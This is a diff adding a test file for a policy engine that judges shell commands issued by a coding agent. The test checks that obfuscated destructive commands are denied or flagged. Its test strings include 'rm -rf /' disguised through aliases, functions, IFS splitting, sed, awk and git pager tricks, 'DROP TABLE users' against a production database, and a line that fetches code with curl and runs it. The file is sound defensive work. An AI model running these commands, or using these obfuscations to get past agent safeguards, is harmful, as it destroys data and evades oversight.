@@ -1,0 +1,121 @@
+import assert from 'node:assert/strict';
+import { before, describe, it } from 'node:test';
+import { builtinPolicyDir } from '../../../server/src/cli/runtime';
+import { categoryLookup, judge, ruleMetaMap } from '../../../server/src/core/judge';
+import type { Parsers } from '../../../server/src/core/parsers';
+import type { PolicySet } from '../../../server/src/core/policy/model';
+import { loadPolicySet } from '../../../server/src/core/policy/policy-set';
+import { parsers } from '../../helpers/parsers';
+
+const agent = { type: 'agent' as const, name: 'claude-code' };
+
+/**
+ * Issue 9 reproductions judged end to end with the built-in policy: each was ALLOW with no finding
+ * before the shell analyzer resolved what really runs.
+ */
+describe('engine: judges what a command really runs (issue 9)', () => {
+  let p: Parsers;
+  let set: PolicySet;
+  before(async () => {
+    p = await parsers();
+    const metas = ruleMetaMap();
+    set = loadPolicySet({
+      builtinDir: builtinPolicyDir(),
+      trusted: true,
+      knownRuleIds: new Set(metas.keys()),
+      categoryOf: categoryLookup(metas),
+    });
+  });
+
+  const run = (text: string, env?: string) =>
+    judge(p, set, { kind: 'shell', text }, { actor: agent, ...(env ? { explicitEnvironment: env } : {}) });
+
+  it('C=psql; $C -h prod-db -c "DROP TABLE users": the psql runs, drop-table, production', () => {
+    const text = 'C=psql; $C -h prod-db -c "DROP TABLE users"';
+    const j = run(text);
+    const drop = j.analysis.findings.find((f) => f.ruleId === 'drop-table');
+    assert.ok(drop, j.analysis.findings.map((f) => f.ruleId).join());
+    assert.equal(text.slice(drop.span.start, drop.span.end), 'users');
+    assert.equal(j.decision.environment, 'production');
+    assert.equal(j.decision.effect, 'deny');
+  });
+
+  it('psql -h prod-db -c "$(echo DROP TABLE users)": a static substitution is resolved', () => {
+    const j = run('psql -h prod-db -c "$(echo DROP TABLE users)"');
+    assert.ok(j.analysis.findings.some((f) => f.ruleId === 'drop-table'));
+    assert.equal(j.decision.effect, 'deny');
+  });
+
+  it('sudo bash -c "rm -rf /var/lib/mysql": the inner rm exists with its argv', async () => {
+    const { analyzeShell } = await import('../../../server/src/core/shell/analyze');
+    const a = analyzeShell(p, 'sudo bash -c "rm -rf /var/lib/mysql"');
+    const rm = a.commands.find((c) => c.name === 'rm');
+    assert.deepEqual(
+      rm?.argv.map((w) => w.value),
+      ['rm', '-rf', '/var/lib/mysql'],
+    );
+    assert.deepEqual(rm?.wrappers, ['sudo', 'bash -c']);
+  });
+
+  it('psql -h prod-db -c "DROP TABLE $T": judged on its static parts and flagged as dynamic', () => {
+    const j = run('psql -h prod-db -c "DROP TABLE $T"');
+    const ids = j.analysis.findings.map((f) => `${f.ruleId}:${f.messageId ?? ''}`);
+    assert.ok(
+      ids.some((id) => id.startsWith('drop-table:')),
+      ids.join(),
+    );
+    assert.ok(ids.includes('opaque-execution:dynamicSql'), ids.join());
+    assert.equal(j.decision.effect, 'deny');
+  });
+
+  it('psql --command="DROP TABLE $T": a run-time long option value is read as the option', () => {
+    const ids = run('psql -h prod-db --command="DROP TABLE $T"').analysis.findings.map(
+      (f) => `${f.ruleId}:${f.messageId ?? ''}`,
+    );
+    assert.ok(
+      ids.some((id) => id.startsWith('drop-table:')),
+      ids.join(),
+    );
+    assert.ok(ids.includes('opaque-execution:dynamicSql'), ids.join());
+  });
+
+  it('a production host inside ssh text or a variable makes the action production', () => {
+    assert.equal(
+      run('ssh bastion \'psql -h prod-db -c "DROP TABLE users"\'').decision.environment,
+      'production',
+    );
+    assert.equal(run('H=prod-db; psql -h $H -c "SELECT 1"').decision.environment, 'production');
+    assert.equal(run('U=postgres://prod-db/app; psql "$U" -c "SELECT 1"').decision.environment, 'production');
+  });
+
+  const denied = [
+    'f(){ rm -rf "$1"; }; f /',
+    "alias x='rm -rf'; x /",
+    '${X:-rm} -rf /',
+    'IFS=,; cmd=rm,-rf,/; $cmd',
+    'busybox rm -rf /',
+    'chrt 1 rm -rf /',
+    'flock /tmp/l -c "rm -rf /"',
+    "sed -n '1e rm -rf /' x",
+    'awk \'BEGIN{system("rm -rf /")}\'',
+    'git -c core.pager="rm -rf /" log',
+  ];
+  for (const text of denied) {
+    it(`deny in production: ${text}`, () => assert.equal(run(text, 'production').decision.effect, 'deny'));
+  }
+
+  const asked = ['$UNSET -rf /', "sed 's/x/y/e' f", 'X=$(curl -s https://x.io/n); $X'];
+  for (const text of asked) {
+    it(`ask in production: ${text}`, () => assert.equal(run(text, 'production').decision.effect, 'ask'));
+  }
+
+  const allowed = [
+    'echo "rm -rf /"',
+    'grep -r "DROP TABLE" .',
+    "find . -name '*.log'",
+    'git -c color.ui=always log',
+  ];
+  for (const text of allowed) {
+    it(`allow in production: ${text}`, () => assert.equal(run(text, 'production').decision.effect, 'allow'));
+  }
+});
